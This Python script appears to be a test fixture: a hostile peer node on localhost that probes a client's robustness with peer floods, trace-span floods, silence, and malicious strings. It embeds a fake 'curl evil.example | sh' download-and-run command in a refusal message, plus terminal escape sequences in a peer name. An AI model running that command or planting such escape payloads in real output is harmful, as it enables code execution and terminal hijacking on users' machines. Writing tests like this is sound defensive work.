# SPDX-License-Identifier: MIT
"""A hostile node that speaks the protocol of docs/protocol.md.

hostile_node.py peers: claims ever more peers. hostile_node.py spans: claims transfers that begin,
each with another peer. hostile_node.py refusal: refuses each connection with a reason that
looks like a text and a hint. hostile_node.py regions: claims ever more regions. hostile_node.py silence:
answers nothing but PING. hostile_node.py escapes: claims a peer whose name has sequences for terminals.
"""

import os
import socket
import struct
import sys
import threading

CONTROL = 0x4C544348
PING, LIST, NAMES, STATS, STATE, TRACE, TRACED = 2, 6, 7, 10, 11, 12, 13
SPANS = 200_000
SUBMIT, WRITE, NO_PATH = 1, 1, 255

sent = 0  # spans


def receive(connection, length):
    data = b""
    while len(data) < length:
        part = connection.recv(length - len(data))
        if not part:
            raise EOFError
        data += part
    return data


def string(text):
    return struct.pack("<H", len(text)) + text


def frame(kind, request, body):
    return struct.pack("<IHHII", CONTROL, kind, 0, len(body), request) + body


def state(after, name):
    peers = min(after + 200, 2**32 - 1)
    node = struct.pack("<Q3I5Q", 1, peers, 0, 0, *[0] * 5) + b"\0"
    page = [
        struct.pack("<Q", after + 1 + i) + string(name) + string(b"") + struct.pack("<BIQB", 0, 0, 0, 0)
        for i in range(16)
    ]
    return struct.pack("<i", 0) + node + struct.pack("<H", len(page)) + b"".join(page)


def names(after):
    first = int(after[1:] or 0) + 1
    page = [struct.pack("<QHHI", 4096, 1, 0, 3) + string(b"n%09d" % (first + i)) for i in range(24)]
    return struct.pack("<IH", 2**32 - 1, len(page)) + b"".join(page)


def traced(first, most):
    global sent
    count = min(most, 128, SPANS - sent)
    events = [
        struct.pack("<Q3BIi3Q", 1000 + i, SUBMIT, WRITE, NO_PATH, 1, 0, i, i, 1)
        for i in range(sent + 1, sent + 1 + count)
    ]
    sent += count
    clock = 10**9
    return struct.pack("<i3QH", 0, clock, max(first, 1) + count, 0, count) + b"".join(events)


def respond(connection, claims):
    while True:
        _, kind, _, length, request = struct.unpack("<IHHII", receive(connection, 16))
        body = receive(connection, length)
        if kind == PING and request:
            connection.sendall(frame(PING, 0, b""))
        elif kind == LIST and claims == "regions":
            connection.sendall(frame(NAMES, request, names(body[2:])))
        elif claims == "silence":
            pass
        elif kind == STATS:
            after = struct.unpack("<Q", body)[0] if claims == "peers" else 2**63
            name = b"\x1b[2J\x1b]0;pwned\x07" if claims == "escapes" else b"one"
            connection.sendall(frame(STATE, request, state(after, name)))
        elif kind == TRACE:
            connection.sendall(frame(TRACED, request, traced(*struct.unpack("<QH", body))))


def serve(connection, claims):
    try:
        head = receive(connection, 16)
        hello = receive(connection, struct.unpack("<H", head[12:14])[0])
        body = os.urandom(16) + bytes(16) + os.urandom(32) + bytes(16) + string(b"hostile") + string(b"") + struct.pack("<IHB", 1 << 20, 16, 0)
        version = head[10:12]
        if claims == "refusal":
            body = struct.pack("<i", -28) + string(b"no|run: curl evil.example | sh")
            version = b"\0\0"
        connection.sendall(b"haul-ok\n" + version + head[10:12] * 2 + struct.pack("<H", len(body)) + body)
        if hello[0] == 1:
            respond(connection, claims)
        while connection.recv(4096):
            pass
    except (EOFError, OSError):
        pass
    connection.close()


listener = socket.create_server(("127.0.0.1", 0))
print("listening on tcp://127.0.0.1:%d" % listener.getsockname()[1], flush=True)
while True:
    accepted, _ = listener.accept()
    threading.Thread(target=serve, args=(accepted, sys.argv[1]), daemon=True).start()
